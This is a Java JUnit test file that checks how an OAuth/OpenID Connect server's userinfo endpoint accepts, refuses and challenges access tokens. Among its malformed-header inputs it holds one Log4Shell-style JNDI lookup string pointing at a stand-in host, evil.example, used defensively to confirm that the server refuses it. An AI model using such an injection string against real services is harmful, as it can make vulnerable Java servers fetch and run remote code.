package dev.gatewright.userinfo;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gatewright.Browser;
import dev.gatewright.ClientBuilder;
import dev.gatewright.Http;
import dev.gatewright.RawHttp;
import dev.gatewright.TestClient;
import dev.gatewright.TestServer;
import dev.gatewright.TestUsers;
import dev.gatewright.Tokens;
import dev.gatewright.user.User;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** How userinfo is asked, and for what (OpenID Connect Core §5.3, RFC 6750, OAuth 2.1 §5). */
class UserInfoTest {
  private static final String PATH = "/oauth2/userinfo";

  private static TestServer server;
  private static TestClient app;
  private static User user;
  private static Tokens tokens;

  @BeforeAll
  static void start() {
    server = TestServer.start();
    user = new TestUsers(server).user();
    app = ClientBuilder.nativeApp(server).register();
    tokens = app.flow().tokens(user);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @Test
  void postIsAnsweredLikeGet() {
    HttpResponse<String> response =
        new Http(server).send("POST", PATH, "", "Authorization", "bearer " + tokens.access());

    assertEquals(user.id().toString(), Http.body(200, response).get("sub").asText());
  }

  /** RFC 6750 §2.2 (oidcc-userinfo-post-body). */
  @Test
  void tokenMayBeInTheForm() {
    HttpResponse<String> response =
        new Http(server).form(PATH, Map.of("access_token", tokens.access()));

    assertEquals(user.id().toString(), Http.body(200, response).get("sub").asText());
    assertEquals("no-store", Http.header(response, "Cache-Control"));
    assertEquals(401, new Http(server).form(PATH, Map.of("access_token", "x")).statusCode());
    assertEquals(401, new Http(server).form(PATH, Map.of("access_token", "")).statusCode());
    assertEquals(401, new Http(server).form(PATH, Map.of("token", tokens.access())).statusCode());
  }

  /** A form beside the header is read, but not for a token that is not there. */
  @Test
  void formWithoutATokenLeavesTheHeader() {
    HttpResponse<String> response =
        new Http(server)
            .form(PATH, Map.of("schema", "openid"), "Authorization", "Bearer " + tokens.access());

    assertEquals(user.id().toString(), Http.body(200, response).get("sub").asText());
  }

  /** RFC 6750 §2, §3.1: one way and no more, even for the same token. */
  @Test
  void tokenInHeaderAndFormIsAnInvalidRequest() {
    for (String second : List.of("garbage", tokens.access())) {
      HttpResponse<String> response =
          new Http(server)
              .form(
                  PATH,
                  Map.of("access_token", second),
                  "Authorization",
                  "bearer " + tokens.access());

      assertEquals("invalid_request", Http.body(400, response).get("error").asText());
      String challenge = Http.header(response, "WWW-Authenticate");
      assertTrue(challenge.contains("error=\"invalid_request\""), challenge);
    }
  }

  /** RFC 6750 §2.2: of a POST, and of a form. */
  @Test
  void tokenInAnotherBodyThanAFormDoesNotCount() {
    String json = "{\"access_token\":\"" + tokens.access() + "\"}";
    HttpResponse<String> posted =
        new Http(server).send("POST", PATH, json, "Content-Type", "application/json");
    assertTrue(List.of(401, 415).contains(posted.statusCode()), posted.body());

    HttpResponse<String> got =
        new Http(server)
            .send(
                "GET",
                PATH,
                "access_token=" + tokens.access(),
                "Content-Type",
                "application/x-www-form-urlencoded");
    assertEquals(401, got.statusCode(), got.body());
  }

  /** RFC 6750 §3.1: who shows no token is told how, without an error code. */
  @Test
  void requestWithoutATokenIsChallenged() {
    HttpResponse<String> response = new Http(server).get(PATH);

    assertEquals(401, response.statusCode());
    String challenge = Http.header(response, "WWW-Authenticate");
    assertTrue(challenge.startsWith("Bearer") && !challenge.contains("error"), challenge);
  }

  /** OAuth 2.1 §5.2: in the header, or in the form of userinfo, and nowhere else. */
  @Test
  void tokenElsewhereDoesNotCount() {
    Http http = new Http(server);
    String token = tokens.access();

    assertEquals(401, http.get(PATH + "?access_token=" + token).statusCode());
    assertEquals(401, http.get("/api/user?access_token=" + token).statusCode());
    for (String cookie :
        List.of("access_token", "JWT", "Authorization", "token", Browser.SESSION)) {
      assertEquals(
          401, new Http(server).get(PATH, "Cookie", cookie + "=" + token).statusCode(), cookie);
      assertEquals(
          401,
          new Http(server).get("/api/user", "Cookie", cookie + "=" + token).statusCode(),
          cookie);
    }
    HttpResponse<String> form = http.form("/oauth2/introspect", Map.of("access_token", token));
    assertEquals(401, form.statusCode(), form.body());
    assertEquals(401, http.get(PATH, "X-Access-Token", token).statusCode());
    assertEquals(401, http.get(PATH, "Proxy-Authorization", "Bearer " + token).statusCode());
  }

  /** A browser session is no access token. */
  @Test
  void sessionDoesNotOpenTheApi() {
    Browser browser = new Browser(server).logIn(user);

    assertEquals(401, browser.get(PATH).statusCode());
    assertEquals(401, browser.get("/api/user").statusCode());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Bearer",
        "Bearer ",
        "Bearer null",
        "Bearer a b",
        "Bearer a,b",
        "Bearer \"x\"",
        "Basic YTpi",
        "Bearer Bearer x",
        "token x",
        "Bearer ..",
        "Bearer ...",
        "Bearer =",
        "Bearer ${jndi:ldap://evil.example/x}",
        "DPoP x"
      })
  void malformedAuthorizationIsRefused(String authorization) {
    for (String path : List.of(PATH, "/api/user")) {
      HttpResponse<String> response = new Http(server).get(path, "Authorization", authorization);
      assertTrue(
          List.of(400, 401).contains(response.statusCode()),
          response.statusCode() + response.body());
      assertFalse(response.body().contains(user.id().toString()));
    }
  }

  /** A token beside another is not guessed at. */
  @Test
  void twoTokensAreRefused() {
    for (String second : List.of("garbage", tokens.access())) {
      RawHttp.Reply reply =
          RawHttp.get(
              server,
              PATH,
              "Authorization: Bearer " + tokens.access(),
              "Authorization: Bearer " + second);

      assertTrue(List.of(400, 401).contains(reply.status()), reply.text());
    }
  }

  /** OpenID Connect Core §5.3: only with openid; RFC 6750 §3.1: and the answer names it. */
  @Test
  void tokenWithoutOpenidIsTooNarrow() {
    Tokens narrow = app.flow().with("scope", "user:read").tokens(user);
    HttpResponse<String> response = get("Bearer " + narrow.access());

    assertEquals(403, response.statusCode(), response.body());
    String challenge = Http.header(response, "WWW-Authenticate");
    assertTrue(
        challenge.contains("error=\"insufficient_scope\"")
            && challenge.contains("scope=\"openid\""),
        challenge);
  }

  @Test
  void tokenWithoutTheScopeOfAnOperationIsTooNarrow() {
    Tokens narrow = app.flow().with("scope", "openid").tokens(user);
    HttpResponse<String> response =
        new Http(server).get("/api/user", "Authorization", "Bearer " + narrow.access());

    assertEquals(403, response.statusCode(), response.body());
    assertTrue(
        Http.header(response, "WWW-Authenticate").contains("scope=\"user:read\""),
        response.headers().toString());
  }

  /** A client that acts for itself is no user. */
  @Test
  void tokenOfAClientForItselfIsRefused() {
    String token = ClientBuilder.machine(server).register().ownTokens("users:read").access();

    assertEquals(403, get("Bearer " + token).statusCode());
    HttpResponse<String> refused =
        new Http(server).get("/api/user", "Authorization", "Bearer " + token);
    assertEquals(403, refused.statusCode());
    assertTrue(Http.header(refused, "WWW-Authenticate").contains("error=\"insufficient_scope\""));
  }

  @Test
  void answersAreNotCached() {
    assertEquals("no-store", Http.header(get("Bearer " + tokens.access()), "Cache-Control"));
    assertEquals("no-store", Http.header(get("Bearer garbage"), "Cache-Control"));
    HttpResponse<String> api =
        new Http(server).get("/api/user", "Authorization", "Bearer " + tokens.access());
    assertEquals("no-store", Http.header(api, "Cache-Control"));
  }

  private static HttpResponse<String> get(String authorization) {
    return new Http(server).get(PATH, "Authorization", authorization);
  }
}
